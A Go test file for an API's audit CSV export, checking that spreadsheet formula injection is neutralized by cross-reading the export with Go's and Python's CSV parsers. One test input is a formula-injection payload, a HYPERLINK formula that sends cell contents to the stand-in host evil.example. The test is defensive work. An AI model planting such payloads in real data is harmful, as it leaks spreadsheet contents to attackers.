package httpapi

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os/exec"
	"strings"
	"testing"

	"github.com/authledger/authledger/domain/tooltest"
)

// TestAuditCSVExportNeutralizesFormulas: a user agent sent by the client
// that a spreadsheet would run as a formula comes out of
// /v1/audit/events?format=csv as text: a leading single quote inside a
// quoted cell. The export is read back with Go's encoding/csv and with
// Python's csv module; both see the same cells, none of which starts with
// a formula trigger.
func TestAuditCSVExportNeutralizesFormulas(t *testing.T) {
	h := newHarness(t)
	const ua = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	r := h.post("/sign-up/email", `{"email":"eve@example.com","password":"correct horse 1","name":"@SUM(1+1)"}`,
		map[string]string{"User-Agent": ua})
	if r.status != 200 {
		t.Fatalf("sign-up: %d %s", r.status, r.body)
	}
	person := r.json(t)["user"].(map[string]any)["id"].(string)
	out := auditGet(h, "/v1/audit/events?format=csv&include=pii&person="+person)
	if out.status != 200 {
		t.Fatalf("export: %d %s", out.status, out.body)
	}
	goRecs, err := csv.NewReader(bytes.NewReader(out.body)).ReadAll()
	if err != nil || len(goRecs) < 2 {
		t.Fatalf("encoding/csv: %v, %d records", err, len(goRecs))
	}
	checkNeutralized(t, "encoding/csv", goRecs, ua)

	python := tooltest.LookPath(t, "python3", "apt-get install python3; .ci/run installs it; needed for the cross-check with Python's csv module")
	cmd := exec.Command(python, "-c", "import csv, json, sys; print(json.dumps(list(csv.reader(sys.stdin))))")
	cmd.Stdin = bytes.NewReader(out.body)
	pyOut, err := cmd.Output()
	if err != nil {
		t.Fatalf("python csv: %v", err)
	}
	var pyRecs [][]string
	if err := json.Unmarshal(pyOut, &pyRecs); err != nil {
		t.Fatalf("python csv output %q: %v", pyOut, err)
	}
	checkNeutralized(t, "python csv", pyRecs, ua)
	if a, b := strings.Join(flatten(goRecs), "\x00"), strings.Join(flatten(pyRecs), "\x00"); a != b {
		t.Errorf("readers disagree:\n go %q\n py %q", goRecs, pyRecs)
	}
}

// checkNeutralized asserts the userAgent cells hold "'" + ua and that no
// cell starts with a formula trigger.
func checkNeutralized(t *testing.T, reader string, recs [][]string, ua string) {
	t.Helper()
	col := -1
	for i, name := range recs[0] {
		if name == "userAgent" {
			col = i
		}
	}
	if col < 0 {
		t.Fatalf("%s: no userAgent column in %q", reader, recs[0])
	}
	seen := 0
	for _, rec := range recs[1:] {
		if rec[col] == "" {
			continue
		}
		seen++
		if rec[col] != "'"+ua {
			t.Errorf("%s: userAgent cell %q, want %q", reader, rec[col], "'"+ua)
		}
		for i, cell := range rec {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("%s: %s cell %q starts with a formula trigger", reader, recs[0][i], cell)
			}
		}
	}
	if seen == 0 {
		t.Errorf("%s: no row carries the user agent: %q", reader, recs)
	}
}

func flatten(recs [][]string) []string {
	var out []string
	for _, r := range recs {
		out = append(out, strings.Join(r, "\x01"))
	}
	return out
}
